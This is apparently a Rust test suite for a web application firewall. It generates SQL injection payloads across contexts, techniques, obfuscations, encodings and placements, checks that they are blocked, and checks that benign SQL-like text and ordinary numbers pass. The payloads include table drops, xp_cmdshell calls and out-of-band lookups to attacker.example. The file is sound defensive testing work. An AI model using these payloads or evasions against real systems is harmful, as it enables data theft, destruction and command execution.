//! SQL injection, generated from its grammar: a breakout for the context the
//! value lands in (number, single- or double-quoted string, parenthesised
//! expression, ORDER BY, LIMIT) × a technique (boolean, UNION, stacked,
//! time-based, error-based, out-of-band) × an obfuscation (inline and
//! versioned comments, white-space substitutes, parentheses for spaces, case
//! mixing, concatenation, CHAR(), hex, scientific notation, backticks) × an
//! encoding (as typed, percent, double percent, `%u`) × a placement (query,
//! form body, JSON body, cookie). Every value of every dimension must be
//! blocked at ≥ 95 %; benign look-alikes (prose with SQL words, names with
//! apostrophes, arithmetic, product names) must pass.

mod common;

use common::browser;
use wafer_engine::{Action, Engine, Request};

/// Where the value lands in the query: the text that closes what came
/// before it, and how the payload ends so the rest of the query is harmless.
struct Context {
    name: &'static str,
    open: &'static str,
    close: &'static [&'static str],
}

const CONTEXTS: &[Context] = &[
    Context {
        name: "numeric",
        open: "1 ",
        close: &["", "-- ", "#"],
    },
    Context {
        name: "single",
        open: "x' ",
        close: &["-- ", "#", "/*"],
    },
    Context {
        name: "double",
        open: "x\" ",
        close: &["-- ", "#", "/*"],
    },
    Context {
        name: "paren",
        open: "1') ",
        close: &["-- ", "#"],
    },
    Context {
        name: "order-by",
        open: "name ",
        close: &["", "-- "],
    },
    Context {
        name: "limit",
        open: "10 ",
        close: &["", "-- "],
    },
];

/// Techniques: what follows the breakout. ORDER BY and LIMIT contexts take
/// the clause forms that are legal there.
const TECHNIQUES: &[(&str, &[&str])] = &[
    (
        "boolean",
        &[
            "OR 1=1",
            "AND 1=2",
            "OR 2>1",
            "OR true",
            "AND 1 LIKE 1",
            "OR 'a'='a'",
            "OR 3 BETWEEN 1 AND 5",
            "AND ASCII(SUBSTRING(user(),1,1))>64",
        ],
    ),
    (
        "union",
        &[
            "UNION SELECT NULL",
            "UNION SELECT NULL,NULL,NULL",
            "UNION ALL SELECT 1,2,3,4,5",
            "UNION SELECT 0x61646d696e,2",
            "UNION SELECT user(),version()",
            "UNION ALL SELECT NULL,table_name FROM information_schema.tables",
            "UNION SELECT username,password FROM users",
        ],
    ),
    (
        "stacked",
        &[
            "; DROP TABLE users",
            "; INSERT INTO users VALUES (1,'a')",
            "; UPDATE users SET role='admin'",
            "; EXEC xp_cmdshell 'dir'",
            "; SELECT pg_sleep(5)",
            "; SHUTDOWN",
        ],
    ),
    (
        "time",
        &[
            "AND SLEEP(5)",
            "OR SLEEP(5)",
            "AND BENCHMARK(5000000,MD5(1))",
            "AND 1=(SELECT 1 FROM PG_SLEEP(5))",
            "; WAITFOR DELAY '0:0:5'",
            "AND IF(1=1,SLEEP(5),0)",
            "OR 1=(SELECT COUNT(*) FROM generate_series(1,5000000))",
        ],
    ),
    (
        "error",
        &[
            "AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
            "AND UPDATEXML(1,CONCAT(0x7e,user()),1)",
            "AND 1=CAST(version() AS int)",
            "AND 1=CONVERT(int,@@version)",
            "OR 1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
            "AND EXP(~(SELECT * FROM (SELECT user())a))",
        ],
    ),
    (
        "oob",
        &[
            "; EXEC master..xp_dirtree '\\\\attacker.example\\a'",
            "UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',version(),'.attacker.example\\\\a'))",
            "AND 1=UTL_HTTP.REQUEST('http://attacker.example/'||user)",
            "; COPY t TO PROGRAM 'nslookup attacker.example'",
            "UNION SELECT 1 INTO OUTFILE '/var/www/x.php'",
        ],
    ),
];

/// Forms that only make sense after ORDER BY or LIMIT.
const CLAUSE_TECHNIQUES: &[(&str, &[&str])] = &[
    (
        "order-by",
        &[
            ",(SELECT 1 FROM (SELECT SLEEP(5))a)",
            ",IF(1=1,name,price)",
            ",(CASE WHEN 1=1 THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)",
            ",EXTRACTVALUE(1,CONCAT(0x7e,version()))",
            "DESC,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
            "UNION SELECT 1,2",
        ],
    ),
    (
        "limit",
        &[
            "PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
            "UNION SELECT 1,2",
            "UNION SELECT @@version,2",
            "OFFSET (SELECT 1 FROM (SELECT SLEEP(5))a)",
            "; DROP TABLE users",
        ],
    ),
];

/// Obfuscations of a payload, applied after the breakout is assembled.
const OBFUSCATIONS: &[&str] = &[
    "plain",
    "inline-comment",
    "versioned-comment",
    "tab",
    "newline",
    "vtab",
    "formfeed",
    "cr",
    "nbsp",
    "plus",
    "parens",
    "case",
    "concat",
    "char",
    "hex",
    "sci",
    "backtick",
];

const KEYWORDS: &[&str] = &[
    "UNION", "SELECT", "AND", "OR", "FROM", "WHERE", "SLEEP", "INSERT", "UPDATE", "DROP", "EXEC",
    "WAITFOR", "LIKE", "INTO",
];

fn replace_spaces(s: &str, with: &str) -> String {
    s.replace(' ', with)
}

/// `OR 1=1` → `OR(1=1)`: parentheses after keywords instead of spaces.
/// Only expressions can be parenthesised: a statement (`; DROP TABLE t`) or
/// `WAITFOR DELAY` has no such form, so those cases are not generated.
fn parens(s: &str) -> Option<String> {
    if s.contains(';') {
        return None;
    }
    let mut out = String::new();
    for (i, w) in s.split(' ').enumerate() {
        if i > 0 {
            out.push_str(if KEYWORDS.contains(&w.to_ascii_uppercase().as_str()) {
                "/**/"
            } else {
                "("
            });
        }
        out.push_str(w);
    }
    // Balance what was opened so the expression still parses.
    let opened = out
        .matches('(')
        .count()
        .saturating_sub(out.matches(')').count());
    out.push_str(&")".repeat(opened));
    Some(out)
}

fn mix_case(s: &str) -> String {
    s.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect()
}

fn versioned(s: &str) -> String {
    s.split(' ')
        .map(|w| {
            if KEYWORDS.contains(&w) {
                format!("/*!50000{w}*/")
            } else {
                w.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn obfuscate(kind: &str, s: &str) -> Option<String> {
    Some(match kind {
        "plain" => s.to_string(),
        "inline-comment" => replace_spaces(s, "/**/"),
        "versioned-comment" => versioned(s),
        "tab" => replace_spaces(s, "\t"),
        "newline" => replace_spaces(s, "\n"),
        "vtab" => replace_spaces(s, "\u{b}"),
        "formfeed" => replace_spaces(s, "\u{c}"),
        "cr" => replace_spaces(s, "\r"),
        "nbsp" => replace_spaces(s, "\u{a0}"),
        // `+` is a space only in a form-encoded query or body; the
        // encoding step writes it (see `encode`).
        "plus" => s.to_string(),
        "parens" => return parens(s),
        "case" => mix_case(s),
        "concat" => s
            .replace("'a'='a'", "'a'='a'||''")
            .replace("0x61646d696e", "CONCAT('adm','in')")
            .replace("1=1", "'1'||'1'='11'"),
        "char" => s
            .replace("'a'='a'", "CHAR(97)=CHR(97)")
            .replace("0x61646d696e", "CHAR(97,100,109,105,110)")
            .replace("1=1", "CHAR(49)=CHAR(49)"),
        "hex" => s
            .replace("'a'='a'", "0x61=0x61")
            .replace("1=1", "0x31=0x31")
            .replace("1,2", "0x31,0x32"),
        "sci" => s.replace(" UNION", "e0UNION").replace("1=1", "1e0=1e0"),
        "backtick" => s
            .replace("users", "`users`")
            .replace("name", "`name`")
            .replace("table_name", "`table_name`")
            .replace("version()", "`version`()"),
        other => unreachable!("{other}"),
    })
}

/// How the value is written on the wire.
const ENCODINGS: &[&str] = &["typed", "percent", "double-percent", "percent-u"];

/// Percent-encoding with every space written as `+` (the `plus` obfuscation).
fn encode_plus(s: &str) -> String {
    s.split(' ')
        .map(|w| encode("percent", w))
        .collect::<Vec<_>>()
        .join("+")
}

fn url_safe(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"-_.~".contains(&b)
}

fn encode(kind: &str, s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        let mut buf = [0u8; 4];
        for &b in c.encode_utf8(&mut buf).as_bytes() {
            match kind {
                "typed" if b.is_ascii_graphic() && !b"%&#+;=\"'`<>\\{}|^[]".contains(&b) => {
                    out.push(b as char)
                }
                "typed" if b == b' ' => out.push('+'),
                _ if url_safe(b) => out.push(b as char),
                "typed" | "percent" => out.push_str(&format!("%{b:02X}")),
                "double-percent" => out.push_str(&format!("%25{b:02X}")),
                "percent-u" if b < 0x80 => out.push_str(&format!("%u00{b:02X}")),
                _ => out.push_str(&format!("%{b:02X}")),
            }
        }
    }
    out
}

fn json_string(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

const PLACEMENTS: &[&str] = &["query", "form", "json", "cookie"];

fn place(placement: &str, encoding: &str, value: &str) -> Request {
    let encode = |kind: &str, v: &str| match kind {
        "plus" => encode_plus(v),
        _ => encode(kind, v),
    };
    match placement {
        "query" => browser(Request::new(
            "GET",
            &format!("/products?id={}", encode(encoding, value)),
        )),
        "form" => {
            let body = format!("id={}&submit=Go", encode(encoding, value));
            browser(Request::new("POST", "/products"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .header("Content-Length", &body.len().to_string())
                .body(body.into_bytes())
        }
        "json" => {
            let body = format!("{{\"id\":{},\"page\":1}}", json_string(value));
            browser(Request::new("POST", "/api/products"))
                .header("Content-Type", "application/json")
                .header("Content-Length", &body.len().to_string())
                .body(body.into_bytes())
        }
        "cookie" => browser(Request::new("GET", "/products")).header(
            "Cookie",
            &format!("lang=en; sort={}", encode("percent", value)),
        ),
        other => unreachable!("{other}"),
    }
}

/// One generated case and the dimension values it was made from.
struct Case {
    dims: [String; 5],
    value: String,
}

fn cases() -> Vec<Case> {
    let mut out = Vec::new();
    let mut n = 0usize;
    for ctx in CONTEXTS {
        let techniques: Vec<(&str, &[&str])> = match ctx.name {
            "order-by" => vec![CLAUSE_TECHNIQUES[0]],
            "limit" => vec![CLAUSE_TECHNIQUES[1], TECHNIQUES[1], TECHNIQUES[2]],
            _ => TECHNIQUES.to_vec(),
        };
        for (tech, bodies) in techniques {
            for body in bodies {
                for obf in OBFUSCATIONS {
                    n += 1;
                    let close = ctx.close[n % ctx.close.len()];
                    let raw = format!("{}{body} {close}", ctx.open);
                    let Some(value) = obfuscate(obf, raw.trim_end()) else {
                        continue;
                    };
                    // Encodings × placements would be large: rotate through
                    // them so each pairing is seen, deterministically.
                    let mut placement = PLACEMENTS[n % PLACEMENTS.len()];
                    let mut encoding = ENCODINGS[(n / PLACEMENTS.len()) % ENCODINGS.len()];
                    if *obf == "plus" {
                        placement = ["query", "form"][n % 2];
                        encoding = "plus";
                    }
                    out.push(Case {
                        dims: [
                            format!("context={}", ctx.name),
                            format!("technique={tech}"),
                            format!("obfuscation={obf}"),
                            format!("encoding={encoding}"),
                            format!("placement={placement}"),
                        ],
                        value,
                    });
                }
            }
        }
    }
    out
}

#[test]
fn generated_sql_injection_is_blocked_per_sub_family() {
    let engine = Engine::builtin();
    let mut by_dim: std::collections::BTreeMap<String, (usize, Vec<String>)> = Default::default();
    for case in cases() {
        let placement = case.dims[4].trim_start_matches("placement=");
        let encoding = case.dims[3].trim_start_matches("encoding=");
        // JSON strings are not URL-decoded and cookies are percent-encoded only.
        let encoding = match placement {
            "json" => "typed",
            _ => encoding,
        };
        let blocked = engine
            .inspect(&place(placement, encoding, &case.value))
            .action
            == Action::Block;
        for d in &case.dims {
            let e = by_dim.entry(d.clone()).or_default();
            e.0 += 1;
            if !blocked {
                e.1.push(format!("{placement}/{encoding}: {:?}", case.value));
            }
        }
    }
    let mut failures = Vec::new();
    for (dim, (total, missed)) in &by_dim {
        let rate = 1.0 - missed.len() as f64 / *total as f64;
        println!("{dim}: {:.1} % of {total}", rate * 100.0);
        if rate < 0.95 {
            failures.push(format!(
                "{dim}: {:.1} % of {total}; missed e.g. {:?}",
                rate * 100.0,
                &missed[..missed.len().min(8)]
            ));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Real-world values that look like SQL: prose, names, arithmetic, products.
/// Not here, because they are blocked on purpose: a filter written as a
/// numeric condition (`x >= 10 and y <= 20`, rule 200011 cannot tell it from
/// `1 and 1<=2`) and prose holding the words `union select` back to back.
const BENIGN: &[&str] = &[
    "Please select one option from the list",
    "The union of two sets is a set",
    "Soviet Union history 1922-1991",
    "European Union or United Kingdom",
    "Tea or coffee?",
    "this or that, and then some",
    "O'Brien",
    "Patrick O'Neil",
    "D'Angelo's pizza",
    "it's a bird, it's a plane",
    "don't drop the table, it's fragile",
    "1 + 1 = 2",
    "3*4=12",
    "Select Comfort mattress",
    "SQL Server 2019 Standard",
    "MySQL Workbench 8.0",
    "Oracle Database 19c or later",
    "Rock 'n' roll",
    "we'll sleep (5 hours) tonight",
    "order by price, then by name",
    "limit 10 per customer",
    "drop shipping from union city",
    "The 'best' offer -- limited time",
    "Select all that apply: A, B or C",
    "Insert coin to continue",
    "Update: the shop is open from 9 to 5",
    "Grand Union Hotel, 5th Ave",
    "rock & roll (live)",
    "1e3 grams",
    "50% off + free shipping",
    "\"quoted\" said the man",
];

#[test]
fn benign_sql_look_alikes_pass() {
    let engine = Engine::builtin();
    let mut blocked = Vec::new();
    for value in BENIGN {
        for placement in PLACEMENTS {
            let v = engine.inspect(&place(placement, "percent", value));
            if v.action == Action::Block {
                let why: Vec<String> = v
                    .findings
                    .iter()
                    .map(|f| format!("{} {:?}", f.rule_id, f.matched))
                    .collect();
                blocked.push(format!("{placement}: {value:?} => {why:?}"));
            }
        }
    }
    println!(
        "benign: {} values × {} placements, {} blocked",
        BENIGN.len(),
        PLACEMENTS.len(),
        blocked.len()
    );
    assert!(blocked.is_empty(), "blocked {blocked:#?}");
}

/// Numbers sent to overflow a type, × sign × placement; look-alikes that are
/// ordinary large numbers must pass.
#[test]
fn overflow_probes_are_blocked_and_ordinary_numbers_pass() {
    let engine = Engine::builtin();
    let probes = [
        "2147483648",
        "2147483649",
        "4294967295",
        "4294967296",
        "9223372036854775808",
        "18446744073709551615",
        "18446744073709551616",
        "2.2250738585072011e-308",
        "2.2250738585072007e-308",
        "1e309",
        "1.7976931348623159e+308",
    ];
    let mut missed = Vec::new();
    for p in probes {
        for sign in ["", "-"] {
            let v = format!("{sign}{p}");
            for placement in PLACEMENTS {
                if engine.inspect(&place(placement, "percent", &v)).action != Action::Block {
                    missed.push(format!("{placement}: {v}"));
                }
            }
        }
    }
    assert!(missed.is_empty(), "missed {missed:#?}");
    let ordinary = [
        "2147483647",
        "1234567890",
        "4294967",
        "42949672960123",
        "1e30",
        "2.5e-3",
        "1700000000000",
        "9007199254740991",
    ];
    for v in ordinary {
        for placement in PLACEMENTS {
            let verdict = engine.inspect(&place(placement, "percent", v));
            assert_ne!(verdict.action, Action::Block, "{placement}: {v}");
        }
    }
}
